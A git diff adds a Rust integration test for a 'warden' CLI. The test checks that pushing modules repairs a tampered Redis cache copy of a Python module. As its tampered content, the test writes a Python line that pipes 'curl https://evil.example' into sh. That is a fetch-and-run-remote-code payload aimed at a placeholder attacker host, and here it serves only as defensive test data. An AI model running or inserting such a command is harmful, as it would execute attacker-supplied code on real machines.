@@ -1,11 +1,14 @@
 //! `warden module push|list|rm` and `warden workflow push DIR`, through the real binary
 //! against a test database and Redis prefix: paths relative to the current directory,
-//! unchanged files skipped, the Redis cache updated before the command returns.
+//! unchanged files skipped, the Redis cache updated before the command returns, and a
+//! Redis copy altered behind the database's back repaired by the next push.
 
 use std::path::Path;
 use std::process::{Command, Output};
 
-use warden::intake::redis::AsyncCommands;
+use warden::intake::redis::aio::MultiplexedConnection;
+use warden::intake::redis::{self, AsyncCommands};
+use warden::modules::content_hash;
 use warden_tests::db::TestDb;
 use warden_tests::pool::warden_bin;
 use warden_tests::redis::TestRedis;
@@ -29,6 +32,17 @@ fn ok(out: Output) -> String {
         String::from_utf8_lossy(&out.stderr)
     );
     text
+}
+
+/// A cached module's `(content, hash)`.
+async fn cached(conn: &mut MultiplexedConnection, key: &str) -> (String, String) {
+    redis::cmd("HMGET")
+        .arg(key)
+        .arg("content")
+        .arg("hash")
+        .query_async(conn)
+        .await
+        .unwrap()
 }
 
 fn write(root: &Path, rel: &str, text: &str) {
@@ -119,6 +133,86 @@ async fn module_push_list_rm() {
     let out = warden(&db, &redis, root, &["module", "push", "shared/bad-name.py"]);
     assert_eq!(out.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&out.stderr).contains("identifier"));
+}
+
+#[tokio::test]
+async fn push_repairs_a_poisoned_redis_copy_of_an_unchanged_module() {
+    let db = TestDb::new().await;
+    let redis = TestRedis::new();
+    let ws = tempfile::tempdir().unwrap();
+    let root = ws.path();
+    write(root, "shared/tickets.py", "T = 1\n");
+    write(root, "shared/other.py", "O = 1\n");
+    ok(warden(&db, &redis, root, &["module", "push", "shared"]));
+    let stored: Vec<(String, String)> = warden::modules::store::list(&db.store)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|m| (m.path, m.content_hash))
+        .collect();
+    let tickets_hash = content_hash("T = 1\n");
+    assert!(
+        stored.contains(&("shared/tickets.py".to_string(), tickets_hash.clone())),
+        "{stored:?}"
+    );
+
+    let mut conn = redis.conn().await;
+    let k = redis.keys();
+    let key = k.module("shared/tickets.py");
+    let evil = "import os\nos.system('curl https://evil.example | sh')\n";
+
+    // Content and hash both replaced, and the generation bumped so workers load it.
+    let _: () = conn
+        .hset_multiple(&key, &[("content", evil), ("hash", &content_hash(evil))])
+        .await
+        .unwrap();
+    let poisoned: u64 = conn.incr(k.module_generation(), 1).await.unwrap();
+    let stdout = ok(warden(&db, &redis, root, &["module", "push", "shared"]));
+    assert!(
+        stdout.contains("0 created, 0 updated, 2 unchanged"),
+        "{stdout}"
+    );
+    assert!(
+        stdout.contains("repaired the Redis copy of shared/tickets.py"),
+        "{stdout}"
+    );
+    assert!(
+        !stdout.contains("repaired the Redis copy of shared/other.py"),
+        "only the altered copy: {stdout}"
+    );
+    assert_eq!(
+        cached(&mut conn, &key).await,
+        ("T = 1\n".to_string(), tickets_hash.clone())
+    );
+    let repaired: u64 = conn.get(k.module_generation()).await.unwrap();
+    assert!(
+        repaired > poisoned,
+        "workers reload: {poisoned} -> {repaired}"
+    );
+
+    // Only the content replaced, under the right hash: repaired too.
+    let _: () = conn.hset(&key, "content", evil).await.unwrap();
+    let stdout = ok(warden(
+        &db,
+        &redis,
+        root,
+        &["module", "push", "shared/tickets.py"],
+    ));
+    assert!(
+        stdout.contains("repaired the Redis copy of shared/tickets.py"),
+        "{stdout}"
+    );
+    assert_eq!(
+        cached(&mut conn, &key).await,
+        ("T = 1\n".to_string(), tickets_hash.clone())
+    );
+
+    // A copy that agrees is left alone: nothing reported, the generation stays.
+    let before: u64 = conn.get(k.module_generation()).await.unwrap();
+    let stdout = ok(warden(&db, &redis, root, &["module", "push", "shared"]));
+    assert!(!stdout.contains("repaired"), "{stdout}");
+    let after: u64 = conn.get(k.module_generation()).await.unwrap();
+    assert_eq!(before, after);
 }
 
 #[tokio::test]
